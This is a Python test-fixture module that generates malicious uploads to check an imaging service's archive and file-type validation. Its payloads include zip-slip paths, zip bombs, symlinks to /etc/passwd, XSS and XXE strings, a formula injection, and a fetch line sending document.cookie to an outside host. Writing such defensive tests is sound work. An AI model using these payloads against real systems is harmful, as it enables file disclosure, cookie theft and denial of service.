"""Kinds of section 3.1: archives and file types that must not get in, and odd ones that must."""

import gzip
import io
import stat
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

from tests.corpus.drawn import Draw, kind, kinds
from tests.radiomics_tasks.imaging.uploads import LIMITS

Entry = tuple[str | zipfile.ZipInfo, bytes]
DIRECTORY, TRAILER = b"PK\x01\x02", b"PK\x05\x06"


def zipped(*entries: Entry, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of these entries."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def plain(draw: Draw, *more: Entry, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A good series in a zip, and something more; the series itself is taken away."""
    slices = draw.ct()
    entries: list[Entry] = [(f"CT/{path.name}", path.read_bytes()) for path in slices]
    draw.random.shuffle(entries)
    at = draw.random.randrange(len(entries) + 1)
    for path in slices:
        path.unlink()
    return zipped(*entries[:at], *more, *entries[at:], method=method)


def sent(draw: Draw, content: bytes, name: str = "scan.zip") -> None:
    """Put the archive into the folder."""
    draw.file(name, content)


@kind
def empty_file(draw: Draw) -> None:
    draw.file("scan.dcm", b"")


@kind
def empty_zip(draw: Draw) -> None:
    sent(draw, zipped())


@kind
def zip_slip(draw: Draw) -> None:
    sent(draw, plain(draw, ("../" * (1 + draw.variant) + "escaped.dcm", b"x" * 200)))


@kind
def absolute_path(draw: Draw) -> None:
    sent(draw, plain(draw, (f"/var/lib/escaped{draw.variant}.dcm", b"x")))


@kind
def drive_letter(draw: Draw) -> None:
    sent(draw, plain(draw, (f"{'CDEXZ'[draw.variant]}:/escaped.dcm", b"x")))


def renamed(content: bytes, old: bytes, new: bytes) -> bytes:
    """Another name of the same length in both headers of an entry."""
    return content.replace(old, new)


@kind
def backslashes(draw: Draw) -> None:
    name = b"..\\..\\escape.dcm"
    sent(draw, renamed(plain(draw, ("x" * len(name), b"x")), b"x" * len(name), name))


@kind
def nul_in_name(draw: Draw) -> None:
    sent(draw, renamed(plain(draw, ("nul_here_dcm", b"x")), b"nul_here_dcm", b"nul\0here.dcm"))


@kind
def very_long_name(draw: Draw) -> None:
    sent(draw, plain(draw, ("n" * (1025 + 500 * draw.variant), b"x")))


@kind
def control_characters(draw: Draw) -> None:
    sent(draw, plain(draw, ("a" + "\a\b\x1b\r\n"[draw.variant] + "b.dcm", b"x")))


@kind
def bidi_characters(draw: Draw) -> None:
    sent(draw, plain(draw, ("scan" + "\u202e\u202d\u2066\u200f\u200b"[draw.variant] + "mcd.dcm", b"x")))


def special(draw: Draw, mode: int) -> None:
    info = zipfile.ZipInfo("link.dcm")
    info.create_system, info.external_attr = 3, (mode | 0o777) << 16
    sent(draw, plain(draw, (info, b"/etc/passwd")))


@kind
def symlink(draw: Draw) -> None:
    special(draw, stat.S_IFLNK)


@kind
def device(draw: Draw) -> None:
    special(draw, (stat.S_IFCHR, stat.S_IFBLK)[draw.variant % 2])


@kind
def fifo(draw: Draw) -> None:
    special(draw, (stat.S_IFIFO, stat.S_IFSOCK)[draw.variant % 2])


@kind
def duplicate_names(draw: Draw) -> None:
    sent(draw, renamed(plain(draw, ("same_A.dcm", b"1"), ("same_B.dcm", b"2")), b"same_B.dcm", b"same_A.dcm"))


@kind
def case_collision(draw: Draw) -> None:
    sent(
        draw,
        plain(
            draw, ("scan.dcm", b"1"), (("SCAN.dcm", "Scan.DCM", "scan.DCM", "sCan.dcm", "SCan.dcm")[draw.variant], b"2")
        ),
    )


@kind
def bomb_in_one_file(draw: Draw) -> None:
    sent(draw, zipped(("huge.dcm", bytes(LIMITS.max_file_bytes + 1 + draw.variant))))


@kind
def bomb_of_many_files(draw: Draw) -> None:
    size = LIMITS.max_unpacked_bytes // 6
    sent(draw, zipped(*[(f"{number}.dcm", bytes(size)) for number in range(7 + draw.variant)]))


@kind
def overlapping_entries(draw: Draw) -> None:
    content = zipped(("1.dcm", bytes(500_000)))
    at, end = content.rindex(DIRECTORY), content.rindex(TRAILER)
    count = 2 + 8 * draw.variant
    entry = content[at:end]
    directory = b"".join(entry.replace(b"1.dcm", bytes([48 + n // 10, 48 + n % 10]) + b"dcm") for n in range(count))
    sent(draw, content[:at] + directory + trailer(count, len(directory), at))


def trailer(count: int, length: int, at: int, here: int | None = None) -> bytes:
    return struct.pack("<4sHHHHIIH", TRAILER, 0, 0, count if here is None else here, count, length, at, 0)


@kind
def quoted_overlap(draw: Draw) -> None:
    """Each entry's data begin with the whole of the next one, local header included."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    inner = kernel.compress(bytes(200_000)) + kernel.flush()
    body, at, heads = b"", 0, []
    count = 3 + draw.variant
    crc = zlib.crc32(bytes(200_000))
    parts = [local(f"{n:02d}.dcm", inner, crc, 200_000) for n in range(count)]
    for n, part in enumerate(parts):
        heads.append((f"{n:02d}.dcm", at, len(inner) + sum(map(len, parts[n + 1 :]))))
        body += part
        at += len(part)
    entries = b"".join(central(name, where, size, crc, 200_000) for name, where, size in heads)
    sent(draw, body + entries + trailer(count, len(entries), len(body)))


def local(name: str, data: bytes, crc: int, size: int) -> bytes:
    head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0)
    return head + name.encode() + data


def central(name: str, at: int, packed: int, crc: int, size: int) -> bytes:
    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII", DIRECTORY, 20, 20, 0, 8, 0, 33, crc, packed, size, len(name), 0, 0, 0, 0, 0, at
        )
        + name.encode()
    )


def said(content: bytes, size: int) -> bytes:
    """Let the first entry say another size, in both its headers."""
    changed = bytearray(content)
    struct.pack_into("<I", changed, 22, size)
    struct.pack_into("<I", changed, changed.index(DIRECTORY) + 24, size)
    return bytes(changed)


@kind
def forged_size_too_small(draw: Draw) -> None:
    sent(draw, said(zipped(("1.dcm", bytes(3_000_000))), 1000 + 77 * draw.variant))


@kind
def forged_size_too_big(draw: Draw) -> None:
    sent(draw, said(zipped(("1.dcm", bytes(3000))), 0xF0000000 + draw.variant))


@kind
def too_many_entries(draw: Draw) -> None:
    sent(draw, zipped(*[(f"{n}", b"") for n in range(LIMITS.max_files + 1 + draw.variant)]))


@kind
def nested_archive(draw: Draw) -> None:
    content = zipped(("0.dcm", bytes(1000)))
    for level in range(1 + draw.variant):
        content = zipped((f"{level}.zip", content))
    sent(draw, content)


@kind
def encrypted(draw: Draw) -> None:
    content = bytearray(plain(draw))
    at = content.index(DIRECTORY)
    content[6] |= 1
    content[at + 8] |= 1
    sent(draw, bytes(content))


@kind
def packed_with_bzip2(draw: Draw) -> None:
    sent(draw, plain(draw, method=zipfile.ZIP_BZIP2))


@kind
def packed_with_lzma(draw: Draw) -> None:
    sent(draw, plain(draw, method=zipfile.ZIP_LZMA))


@kind
def split_archive(draw: Draw) -> None:
    content = bytearray(plain(draw))
    struct.pack_into("<H", content, content.rindex(TRAILER) + 4, 1 + draw.variant)
    sent(draw, bytes(content))


@kind
def large_trailer_that_lies(draw: Draw) -> None:
    content = bytearray(plain(draw))
    struct.pack_into("<HH", content, content.rindex(TRAILER) + 8, 0xFFFF, 0xFFFF)
    sent(draw, bytes(content))


@kind
def truncated_zip(draw: Draw) -> None:
    content = plain(draw)
    sent(draw, content[: len(content) * (15 + 17 * draw.variant) // 100])


@kind
def flipped_byte_in_zip(draw: Draw) -> None:
    content = bytearray(plain(draw, method=zipfile.ZIP_STORED))
    content[draw.random.randrange(1500, len(content) // 2)] ^= 0x55
    sent(draw, bytes(content))


@kind
def data_before_zip(draw: Draw) -> None:
    sent(draw, b"#!/bin/sh\nexit\n" * (1 + draw.variant) + plain(draw))


@kind
def data_after_zip(draw: Draw) -> None:
    sent(draw, plain(draw) + b"more" * (1 + 50 * draw.variant))


@kind
def image_and_zip_in_one(draw: Draw) -> None:
    head = draw.ct()[draw.variant].read_bytes()
    sent(draw, head + plain(draw), "scan.dcm")


def other_archive(draw: Draw, word: str) -> None:
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("x"), io.BytesIO())
    contents = {
        "rar_named_zip": b"Rar!\x1a\x07\x01\0" + bytes(200),
        "sevenzip_named_zip": b"7z\xbc\xaf\x27\x1c\0\4" + bytes(200),
        "tar_named_zip": tar.getvalue(),
        "gzip_named_zip": gzip.compress(b"not an image" * 50, mtime=0),
    }
    sent(draw, contents[word] + bytes(draw.variant))


kinds(("rar_named_zip", "sevenzip_named_zip", "tar_named_zip", "gzip_named_zip"), other_archive)

FOREIGN = {
    "page_named_dcm": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "drawing_named_dcm": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "script_named_dcm": b"fetch('//example.org/'+document.cookie)",
    "xml_named_dcm": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
}
kinds(tuple(FOREIGN), lambda draw, word: draw.file("scan.dcm", FOREIGN[word] * (2 + draw.variant)))

STARTS = {
    "pdf_in_preamble": b"%PDF-1.7\n",
    "windows_program_in_preamble": b"MZ\x90\0\3\0\0\0",
    "linux_program_in_preamble": b"\x7fELF\2\1\1\0",
    "shell_script_in_preamble": b"#!/bin/sh\nid\n",
    "page_in_preamble": b"<html><script>alert(1)</script>",
}


def in_preamble(draw: Draw, word: str) -> None:
    for path in draw.ct():
        path.write_bytes(STARTS[word].ljust(128, b"\0") + path.read_bytes()[128:])


kinds(tuple(STARTS), in_preamble)


@kind
def wrong_names(draw: Draw) -> None:
    endings = [".pdf", ".jpg", "", ".zip", ".exe", ".nii", ".txt"]
    draw.random.shuffle(endings)
    for number, path in enumerate(draw.ct()):
        path.rename(path.with_name(f"{number}{endings[number % len(endings)]}"))


@kind
def companions(draw: Draw) -> None:
    names = ["__MACOSX/._1.dcm", ".DS_Store", "Thumbs.db", "DICOMDIR", "README", "notes.txt"]
    content = plain(draw, *[(name, b"../../etc/passwd") for name in names[: 2 + draw.variant]])
    sent(draw, content)


@kind
def directory_record_that_leads_outside(draw: Draw) -> None:
    draw.ct()
    draw.file("DICOMDIR", bytes(128) + b"DICM" + b"\4\0\0\x15CS\x10\0../../etc/passwd")


HEADERS = {
    "meta_image_header": (
        "scan.mhd",
        b"ObjectType = Image\nNDims = 3\nDimSize = 4 4 4\nElementDataFile = /etc/passwd\n",
    ),
    "nrrd_header_alone": (
        "scan.nhdr",
        b"NRRD0004\ntype: uchar\ndimension: 3\nsizes: 4 4 4\nencoding: raw\ndata file: /etc/passwd\n\n",
    ),
    "analyze_pair": ("scan.hdr", struct.pack("<i", 348) + bytes(340) + b"ni1\0"),
}
kinds(
    tuple(HEADERS),
    lambda draw, word: draw.file(HEADERS[word][0] if draw.variant % 2 else "scan.img", HEADERS[word][1]),
)

NAMES = ("=cmd|' /C calc'!A0", "<script>alert(1)</script>", "x" * 200, "\U0001f3e5\U0001fa7b", "{{7*7}}${7*7}")


@kind
def hostile_file_names(draw: Draw) -> None:
    for number, path in enumerate(draw.ct()):
        safe = NAMES[(number + draw.variant) % len(NAMES)].replace("/", "_")
        path.rename(path.with_name(f"{safe}{number}"))


@kind
def virus_test_file(draw: Draw) -> None:
    # In two halves: a scanner on a developer's machine should not take this file away.
    halves = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$", b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
    draw.file(("scan.com", "scan.exe", "scan.bin", "scan.dat", "scan.pif")[draw.variant], b"".join(halves))


def files_of(folder: Path) -> list[Path]:
    """Everything that a variant wrote, in the order of names."""
    return sorted(path for path in folder.rglob("*") if path.is_file())
